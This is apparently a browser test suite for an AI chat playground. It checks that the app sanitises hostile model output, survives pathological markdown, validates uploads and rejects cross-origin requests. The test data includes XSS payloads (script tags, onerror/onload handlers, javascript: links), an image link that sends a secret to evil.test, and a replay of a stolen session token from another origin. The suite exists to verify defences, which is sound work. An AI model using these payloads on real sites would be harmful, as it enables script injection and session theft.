import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { beforeAll, expect, test } from 'vitest'
import type { TestNode } from '../../../tests/nodes/test-node.ts'
import { askPath, openPlayground, type PlaygroundPage } from './playground-page.ts'
import { dashboardOfSuite, describeInBrowser } from './suite.ts'
import type { Visitor } from './visitor.ts'

const png = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
)

/** Hostile answers of models, hostile files, and attacks from other pages. */
describeInBrowser('the playground under attack', { timeout: 120_000 }, () => {
  const openDashboard = dashboardOfSuite()
  let node: TestNode
  let visitor: Visitor
  let at: PlaygroundPage
  let account: string

  beforeAll(async () => {
    ;({ at, node, visitor, accountId: account } = await openPlayground(openDashboard))
  }, 120_000)

  const log = () => at.page.getByRole('log')

  test('shows HTML and scripts of an answer as text, and only links to other sites', async () => {
    const { page } = at
    await at.open()
    let dialogs = 0
    page.on('dialog', (dialog) => {
      dialogs++
      void dialog.dismiss()
    })
    await at.ask(
      [
        '<script>document.title = "owned"; alert(1)</script>',
        '<img src=x onerror="alert(2)"><iframe src="https://evil.test"></iframe>',
        '![stolen](https://evil.test/?q=secret) [js](javascript:alert(3)) [data](data:text/html,x)',
        '[own](/keys) [mail](mailto:a@example.com) [web](https://example.com/a) <https://auto.test>',
        '[x]: javascript:alert(4)',
        '<svg onload=alert(5)> <a href="javascript:alert(6)">a</a> &lt;b&gt; \\<i>',
        '```"><img/src=x/onerror=alert(7)>\ncode\n```',
        '[sandbox: pace=0]',
      ].join('\n\n'),
    )
    await at.answered(1)
    await log().getByText('</script>').last().waitFor()
    const answer = log().getByRole('heading', { name: 'Answer of sandbox/full' }).locator('..')
    for (const tag of ['script', 'img', 'iframe', 'svg[onload]', '[onerror]', 'style'])
      expect(await answer.locator(tag).count(), tag).toBe(0)
    const links = answer.locator('a[target=_blank]')
    await expect.poll(() => links.count()).toBe(4)
    const replies = await Promise.all(
      (await links.all()).map((link) => Promise.all([link.getAttribute('href'), link.getAttribute('rel')])),
    )
    const rel = 'noopener noreferrer nofollow'
    expect(replies).toEqual([
      ['https://evil.test/?q=secret', rel],
      ['mailto:a@example.com', rel],
      ['https://example.com/a', rel],
      ['https://auto.test/', rel],
    ])
    expect([dialogs, await page.title()]).toEqual([0, 'Playground · Turnpike'])
    expect(visitor.elsewhere).toEqual([])
  })

  test.each([
    ['quotes in quotes', '>'.repeat(3_000)],
    ['lists in lists', Array.from({ length: 300 }, (_, depth) => `${'  '.repeat(depth)}- a`).join('\n')],
    ['brackets', '['.repeat(5_000)],
    ['emphasis', '*a '.repeat(3_000) + '_b'.repeat(3_000)],
    ['a table of one row', `|${'a|'.repeat(3_000)}\n|${'-|'.repeat(3_000)}`],
    ['backticks', '`'.repeat(4_999)],
  ])('keeps working with an answer of nothing but %s', async (_, text) => {
    const { page } = at
    await at.open()
    await at.ask(`${text}\n\n[sandbox: pace=0]`)
    await at.answered(1)
    await page.getByLabel('Message').fill('still here')
    expect(await page.getByLabel('Message').inputValue()).toBe('still here')
    await page.getByLabel('Message').fill('')
  })

  test('shows a part of a huge answer, copies all of it, and stays responsive', async () => {
    const { page } = at
    await at.open('?model=sandbox/plain')
    await at.ask('All work and no play. [sandbox: pace=0 ignore_bound tokens=120000]')
    await at.answered(1)
    await page.getByText(/Long answer, shown as plain text/).waitFor()
    expect((await log().textContent())!.length).toBeLessThan(600_000)
    await page.getByLabel('Message').fill('Short [sandbox: pace=0]')
    await page.keyboard.press('Enter')
    await at.answered(2)
  })

  test('attaches images, texts and PDFs that are picked, pasted or dropped', async () => {
    const { page } = at
    await at.open()
    await page.locator('input[type=file]').setInputFiles([
      { name: 'dot.png', mimeType: 'image/png', buffer: png },
      { name: 'notes.ts', mimeType: '', buffer: Buffer.from('const a = "ü"') },
    ])
    await page.getByText('notes.ts').waitFor()
    await page.evaluate(`{
      const clipboardData = new DataTransfer()
      clipboardData.items.add(new File([new Uint8Array(3)], 'pasted.png', { type: 'image/png' }))
      const field = document.querySelector('textarea[aria-label=Message]')
      field.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }))
    }`)
    await page.getByText('pasted.png').waitFor()
    await drop(at, { name: 'paper.pdf', type: 'application/pdf', bytes: 2_000 })
    await page.getByText('paper.pdf').waitFor()
    await page.getByRole('button', { name: 'Remove pasted.png' }).click()
    const { messages } = await at.ask('What is this? [sandbox: pace=0]')
    expect(messages[0]!.content).toMatchObject([
      { type: 'image_url', image_url: { url: `data:image/png;base64,${png.toString('base64')}` } },
      { type: 'text', text: 'notes.ts:\n\nconst a = "ü"' },
      { type: 'file', file: { filename: 'paper.pdf' } },
      { type: 'text', text: 'What is this? [sandbox: pace=0]' },
    ])
    await at.answered(1)
    await log().getByRole('img', { name: 'dot.png' }).waitFor()
  })

  test.each([
    ['film of 100 MB', { name: 'film.mp4', type: 'video/mp4', bytes: 100_000_000 }, /expected an image/],
    [
      'picture of 100 MB',
      { name: 'big.png', type: 'image/png', bytes: 100_000_000 },
      /it has 100 MB\. The limit for images is 10 MB/,
    ],
    [
      'log of 100 MB',
      { name: 'big.log', type: 'text/plain', bytes: 100_000_000 },
      /it has 100 MB\. The limit for texts is 0\.5 MB/,
    ],
    ['program', { name: 'a.out', type: '', bytes: 1_000 }, /expected an image .* or a text in UTF-8/],
    ['empty file', { name: 'empty.txt', type: 'text/plain', bytes: 0 }, /it is empty/],
  ])('refuses a dropped %s with an explanation, and sends nothing', async (_, file, words) => {
    const { page } = at
    await at.open()
    await drop(at, file)
    await page.getByRole('alert').filter({ hasText: words }).waitFor()
    expect(await page.getByRole('button', { name: 'Send', exact: true }).isDisabled()).toBe(true)
    expect(new URL(page.url()).pathname).toBe('/playground')
  })

  test('says which model takes no images', async () => {
    const { page } = at
    await at.open('?model=sandbox/plain')
    await drop(at, { name: 'dot.png', type: 'image/png', bytes: 100 })
    await page.getByText('sandbox/plain does not accept images.').waitFor()
  })

  test('lets no page of another origin spend, not even with a stolen token', async () => {
    const { page } = at
    await at.open()
    const token = (await page.evaluate(
      `Object.values(sessionStorage).map((text) => /"access_token":"([^"]+)"/.exec(text)?.[1]).find(Boolean)`,
    )) as string
    expect(token.length).toBeGreaterThan(100)
    const evil = createServer((_, response) => response.setHeader('content-type', 'text/html').end('<p>evil'))
    await new Promise<void>((done) => evil.listen(0, '127.0.0.1', done))
    const other = await visitor.context.newPage()
    await other.goto(`http://127.0.0.1:${(evil.address() as AddressInfo).port}/`)
    const before = await rows()
    const url = JSON.stringify(node.origin + askPath)
    const body = JSON.stringify({ model: 'sandbox/plain', messages: [{ role: 'user', content: 'x' }] })
    const authorization = JSON.stringify(`Bearer ${token}`)
    for (const init of [
      `{ mode: 'no-cors', credentials: 'include' }`,
      `{ credentials: 'include', headers: { 'content-type': 'text/plain' } }`,
      `{ headers: { authorization: ${authorization}, 'content-type': 'application/json' } }`,
    ])
      await other.evaluate(
        `fetch(${url}, { method: 'POST', body: ${JSON.stringify(body)}, ...${init} })
          .then((answer) => answer.text(), String)`,
      )
    expect(await rows()).toBe(before)
    await other.close()
    await new Promise((done) => evil.close(done))
    const answer = await fetch(node.origin + askPath, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${token}`,
        origin: 'http://evil.test',
        'content-type': 'application/json',
      },
      body,
    })
    expect(answer.status).toBe(403)
    expect(await rows()).toBe(before)
  })

  test('tells an account that it was suspended during a conversation, and keeps the question', async () => {
    const { page } = at
    await at.open()
    await node.admin(`/accounts/${account}`, { method: 'PATCH', body: { status: 'suspended' } })
    await at.ask('Am I still here?')
    await page.getByText('The account is suspended.').first().waitFor()
    await expect.poll(() => page.getByLabel('Message').inputValue()).toBe('Am I still here?')
    await node.admin(`/accounts/${account}`, { method: 'PATCH', body: { status: 'active' } })
  })

  async function rows(): Promise<number> {
    const { data } = await node.admin<{ data: object[] }>('/usage/requests?limit=200')
    return data.length
  }
})

/** Drops a file of zeros onto the page. */
async function drop(
  { page }: PlaygroundPage,
  { name, type, bytes }: { name: string; type: string; bytes: number },
): Promise<void> {
  await page.evaluate(`{
    const chunk = new Uint8Array(${Math.min(bytes, 1_000_000)})
    const parts = Array.from({ length: ${Math.ceil(bytes / 1_000_000)} }, () => chunk)
    const dataTransfer = new DataTransfer()
    dataTransfer.items.add(new File(parts, ${JSON.stringify(name)}, { type: ${JSON.stringify(type)} }))
    for (const kind of ['dragover', 'drop'])
      document.body.dispatchEvent(new DragEvent(kind, { dataTransfer, bubbles: true, cancelable: true }))
  }`)
}
